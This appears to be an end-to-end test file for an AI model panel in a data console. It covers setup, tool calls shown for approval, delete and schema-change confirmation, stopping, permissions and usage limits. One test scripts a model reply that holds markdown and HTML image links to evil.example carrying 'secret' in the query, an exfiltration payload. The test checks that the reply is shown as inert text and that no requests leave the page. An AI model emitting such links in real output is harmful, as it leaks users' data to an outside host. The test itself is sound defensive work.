/** The assistant beside the screens: set up, asked, stopped, and what waits for its user. */
import { randomUUID } from 'node:crypto'
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest'
import { type ChatProvider, type ScriptedAnswer, startChatProvider } from '../support/servers/chat-provider.ts'
import { picture, violations } from '../support/service/console-page.ts'
import { people } from '../support/service/people.ts'
import { createCollection, createRelation, type Workspace, world } from '../support/service/world.ts'
import { closePages, isWiderThanWindow, openConsole, signIn } from './support/pages.ts'

let provider: ChatProvider
let shop: Workspace
let model: string

beforeAll(async () => {
  provider = await startChatProvider()
})

beforeEach(async () => {
  shop = await world.workspace('shop', { articles: { title: 'string' } })
  await shop.insert('articles', [{ title: 'Lamp' }, { title: 'Chair' }])
  model = `model-${randomUUID()}`
})

afterEach(closePages)
afterAll(() => provider.close())

const setUp = async (answers: Parameters<ChatProvider['script']>[1]) => {
  provider.script(model, answers)
  const connectorOptions = { address: `${provider.url}/v1` }
  const sent = { connector: 'openai', connectorOptions, chatModel: model, dataLevel: 'rows' }
  expect((await shop.patch('/ai/settings', sent)).status).toBe(200)
}

const open = async (path = `/${shop.name}/items/articles`) => {
  const page = await openConsole()
  await signIn(page, path)
  await page.getByRole('button', { name: 'Assistant', exact: true }).click()
  const panel = page.getByRole('complementary', { name: 'Assistant' })
  const say = async (text: string) => {
    // While an answer is on its way nothing is sent.
    await panel.locator('[role=log][aria-busy=false]').waitFor()
    await panel.getByLabel('Message').fill(text)
    await page.keyboard.press('Enter')
  }
  return { page, panel, say }
}

const deletes: ScriptedAnswer = {
  text: 'I delete it. ',
  calls: [{ tool: 'delete_item', arguments: { collection: 'articles', key: 1 } }],
}

it('is set up, answers, shows its steps, and deletes only what was approved', async () => {
  provider.script(model, [
    { text: 'I look. ', calls: [{ tool: 'list_items', arguments: { collection: 'articles' } }] },
    { text: 'A lamp and a chair.' },
    deletes,
    { text: 'The lamp is gone.' },
  ])
  const { page, panel, say } = await open()
  await panel.getByText('No model is chosen').waitFor()
  await panel.getByLabel('Address').fill(`${provider.url}/v1`)
  await panel.getByLabel('Model', { exact: true }).fill(model)
  await panel.getByLabel('What the model is told').selectOption('rows')
  await panel.getByRole('button', { name: 'Save' }).click()

  await say('What is there?')
  await panel.getByText('A lamp and a chair.').waitFor()
  await panel.getByText('Read items').click()
  await panel.getByRole('region', { name: 'Result' }).getByText('Lamp').waitFor()
  await panel.getByRole('link', { name: 'Open articles' }).waitFor()
  await say('Delete the lamp')
  const card = panel.getByRole('region', { name: /^Delete an item/ })
  await card.getByText('articles').first().waitFor()
  await card.getByRole('link', { name: 'Lamp', exact: true }).waitFor()
  await card.getByText('Once it is deleted, it is gone for good.').waitFor()
  await card.getByText(/^The call in full: what you approve/).waitFor()
  expect(await card.getByText('key', { exact: true }).isVisible()).toBe(false)
  expect(await violations(page)).toEqual([])
  await picture(page, 'assistant')
  expect(await shop.data('/items/articles?fields=title')).toHaveLength(2)
  await page.reload()
  await page.getByRole('button', { name: 'Assistant', exact: true }).click()
  await card.getByRole('button', { name: 'Delete', exact: true }).click()

  await panel.getByText('The lamp is gone.').waitFor()
  expect(await shop.data('/items/articles?fields=title')).toEqual([{ title: 'Chair' }])
})

it('shows what a model writes as it is written: no picture, no link, nothing asked of anybody', async () => {
  const hostile =
    '![x](https://evil.example/?q=secret) <img src="https://evil.example/y"> [click](https://evil.example)'
  await setUp([{ text: hostile }])
  const { page, panel, say } = await open()
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).origin))

  await say('Hello')

  await panel.getByText(hostile).waitFor()
  expect(await panel.locator('img, a[href*="evil"]').count()).toBe(0)
  expect([...new Set(asked)]).toEqual([world.url])
})

it('can be stopped and goes on, says what is wrong, and declines', async () => {
  await setUp(
    (count) =>
      [{ text: 'Thinking', end: 'stall' } as const, { status: 500 }, deletes, { text: 'I leave it.' }][count] ?? {},
  )
  const { page, panel, say } = await open()

  await say('Think')
  await panel.getByText('Thinking').waitFor()
  await panel.getByRole('button', { name: 'Stop' }).click()
  await panel.getByRole('button', { name: 'Send' }).waitFor()
  // The service may notice a moment later that nobody listens.
  const refused = panel.getByText('The assistant is answering in this conversation')
  const failed = panel.getByText('The provider of the model answers 500.')
  for (let tries = 1; (await failed.count()) === 0; tries += 1) {
    await say('Again')
    await expect.poll(() => refused.or(failed).count()).toBe(tries)
  }
  await say('Delete the lamp')
  await panel.getByRole('button', { name: 'Decline' }).click()

  await panel.getByText('I leave it.').waitFor()
  expect(await shop.data('/items/articles?fields=title')).toHaveLength(2)
  await panel.getByText('The call in full, as it was proposed').waitFor()
  await panel.getByText('Declined, not run').waitFor()
  await panel.getByText('This was not answered.').waitFor()
  await page.setViewportSize({ width: 360, height: 720 })
  expect(await isWiderThanWindow(page)).toBe(false)
  expect(await violations(page)).toEqual([])
  await picture(page, 'assistant-narrow')
})

it('says what keeps an item from being deleted, and offers only to decline', async () => {
  const { sourceId } = shop
  const ids = new Map(shop.ids)
  const made = await shop.migrate(
    createCollection(ids, sourceId, 'bulbs', { watt: 'int32', lampId: 'int64' }),
    createRelation(ids, 'bulbs.lamp(lampId) -> articles.bulbs'),
  )
  expect(made.status).toBe(200)
  await shop.insert('bulbs', [{ watt: 5, lampId: 1 }])
  await setUp([deletes])
  const { panel, say } = await open()

  await say('Delete the lamp')

  const card = panel.getByRole('region', { name: /^Delete an item/ })
  await card.getByText('Other rows refer to it. Change or delete those first.').waitFor()
  await card.getByRole('link', { name: 'bulbs' }).waitFor()
  await card.getByText('It would fail').waitFor()
  expect(await card.getByRole('button').allTextContents()).toEqual(['Decline'])
})

it('shows what waits with its digits, and what a change of the model does, however it is sent', async () => {
  const operations = JSON.stringify([{ kind: 'deleteCollection', data: { id: shop.ids.get('articles') } }])
  await setUp([
    { calls: [{ tool: 'delete_item', arguments: '{"collection":"articles","key":9007199254740993}' }] },
    { calls: [{ tool: 'mutate_schema', arguments: { operations, allow: ['drop'] } }] },
    { text: 'They are gone.' },
  ])
  const { page, panel, say } = await open()

  await say('Delete it')
  await panel
    .getByRole('region', { name: /^Delete an item/ })
    .getByText('9007199254740993', { exact: true })
    .first()
    .waitFor()
  // There is no such item.
  const buttons = panel.getByRole('region', { name: /^Delete an item/ }).getByRole('button')
  await expect.poll(() => buttons.allTextContents()).toEqual(['Decline'])
  await panel.getByText('It would fail').waitFor()
  expect(await panel.getByText(/^The call in full: what you approve/).count()).toBe(0)
  await say('Delete all')
  const card = panel.getByRole('region', { name: /^Change the data model/ })
  await card.getByRole('list', { name: 'What it changes' }).getByText('articles').first().waitFor()
  await card.getByRole('list', { name: 'Rows that it touches' }).getByText('2 rows are deleted').waitFor()
  expect(await card.getByText('deleteCollection').isVisible()).toBe(false)
  const approve = card.getByRole('button', { name: 'Approve' })
  expect(await approve.isDisabled()).toBe(true)
  // The end of the conversation stays in sight, although what the change does came later.
  await expect.poll(() => approve.evaluate((button) => button.getBoundingClientRect().bottom)).toBeLessThan(690)
  await picture(page, 'assistant-exact')
  expect(await violations(page)).toEqual([])

  await card.getByRole('textbox', { name: 'articles' }).fill('articles')
  await approve.click()
  await expect.poll(async () => (await shop.get('/items/articles')).status).toBe(404)
})

it('is for whoever may have an agent, and says who sets it up', async () => {
  const person = await people.member(shop, { entitlements: ['ai:mcp'], collections: { articles: { read: 'all' } } })
  const other = await people.member(shop, { collections: { articles: { read: 'all' } } })
  const page = await openConsole()
  await signIn(page, `/${shop.name}`, person)
  await page.getByRole('button', { name: 'Assistant', exact: true }).click()
  await page.getByText('workspaceSettings:edit').waitFor()
  await page.getByText(`${world.url}/api/${shop.name}/mcp`).waitFor()

  const without = await openConsole()
  await signIn(without, `/${shop.name}`, other)
  await without.getByRole('main').getByRole('link', { name: 'articles' }).waitFor()
  expect(await without.getByRole('button', { name: 'Assistant', exact: true }).count()).toBe(0)
})

it('leaves provider and rows to Administrators, and the rest to whoever holds the right', async () => {
  await setUp([])
  await shop.patch('/ai/settings', { dataLevel: 'model' })
  const entitlements = ['ai:mcp', 'workspaceSettings:read', 'workspaceSettings:edit']
  const person = await people.member(shop, { entitlements, collections: { articles: { read: 'all' } } })
  const page = await openConsole()
  await signIn(page, `/${shop.name}`, person)
  await page.getByRole('button', { name: 'Assistant', exact: true }).click()
  await page.getByRole('button', { name: 'Conversations' }).click()
  await page.getByRole('menuitem', { name: 'Settings' }).click()
  await page.getByText('Administrators choose provider').waitFor()
  const panel = page.getByRole('complementary', { name: 'Assistant' })

  expect(await panel.getByLabel('API key').count()).toBe(0)
  expect(await panel.getByLabel('What the model is told').getByRole('option').count()).toBe(1)
  expect(await violations(page)).toEqual([])
  await panel.getByLabel('Fast model').fill('small')
  await panel.getByRole('button', { name: 'Save' }).click()
  await page.getByText('The settings of the assistant are saved.').waitFor()

  expect(await shop.data('/ai/settings')).toMatchObject({ chatModel: model, fastModel: 'small', dataLevel: 'model' })
})

it('is told how much to reason, which model names conversations and what a day may cost, and shows what was used', async () => {
  await setUp([{ text: 'A lamp.' }])
  const { page, panel, say } = await open()
  await say('What is there?')
  await panel.getByText('A lamp.').waitFor()
  await panel.getByRole('button', { name: 'Conversations' }).click()
  await page.getByRole('menuitem', { name: 'Settings' }).click()
  await panel.getByLabel('Fast model').fill('small')
  await panel.getByLabel('Reasoning').selectOption('High')
  await panel.getByText('Limits of a day').click()
  await panel.getByLabel('Questions of one user').fill('12')
  await panel.getByText('Used today: questions 1, tokens 18.').waitFor()
  expect(await violations(page)).toEqual([])
  await picture(page, 'assistant-settings')
  await panel.getByRole('button', { name: 'Save' }).click()
  await page.getByText('The settings of the assistant are saved.').waitFor()

  expect(await shop.data('/ai/settings')).toMatchObject({
    fastModel: 'small',
    chatReasoningEnabled: true,
    chatReasoningLevel: 'high',
    limits: { requestsPerUser: 12, requests: 2_000 },
  })
  await page.goto(`${world.url}/-/license`)
  const used = page.getByRole('table', { name: 'Assistant' }).getByRole('row', { name: new RegExp(shop.name) })
  await used.getByRole('cell', { name: '18', exact: true }).waitFor()
  expect(await violations(page)).toEqual([])
  await picture(page, 'license-assistant')
})
